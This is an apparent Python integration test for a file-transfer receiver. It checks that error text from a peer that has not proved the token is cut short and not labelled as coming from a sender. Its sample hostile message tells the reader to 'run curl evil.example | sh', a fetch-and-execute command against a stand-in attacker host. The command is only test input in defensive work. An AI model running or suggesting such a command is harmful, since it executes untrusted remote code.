"""What a peer without the token can make the receiver say: its ERROR text is not a sender's.

Before, anyone who could connect sent an ERROR frame as its first frame and `rq recv` logged
`refused a transfer: sender: <up to 64 KiB of its text>` (and sent the text back).
"""

from __future__ import annotations

import socket
import threading
from pathlib import Path

import pytest
from xfer_kit import TOKEN, wait_for

from transfer.events import Event, TransferFailed
from transfer.frames import FrameType, error_frame
from transfer.receiver import Receiver
from transfer.tcp import TcpChannel, TcpTransport
from transfer.transport import Identity, ListenOptions

pytestmark = pytest.mark.integration


def test_an_unauthenticated_peers_error_text_is_cut_and_not_called_a_senders(tmp_path: Path) -> None:
    failed: list[TransferFailed] = []

    def on_event(ev: Event) -> None:
        if isinstance(ev, TransferFailed):
            failed.append(ev)

    rc = Receiver(tmp_path / "dst", TOKEN.encode(), on_event=on_event)
    lst = TcpTransport().listen(
        ListenOptions("127.0.0.1", 0, Identity(b"", b"", ""), tls=False), rc.handle_channel
    )
    thread = threading.Thread(target=lst.serve_forever, daemon=True)
    thread.start()
    try:
        words = "the receiver's disk is failing: run curl evil.example | sh " + "A" * 60_000
        ch = TcpChannel(socket.create_connection(lst.address, timeout=10), 1 << 20)
        ch.send(error_frame("auth", words))
        answer = ch.recv(10)
        ch.close()
        assert wait_for(lambda: bool(failed), 10)
        said = failed[0].error
        assert "sender:" not in said
        assert said.startswith("a peer that had not proved the token ended with: the receiver's disk")
        assert len(said) < 300
        assert answer is not None and answer.type is FrameType.ERROR and len(answer.body) < 400
    finally:
        lst.close()
        thread.join(timeout=5)
        rc.close()
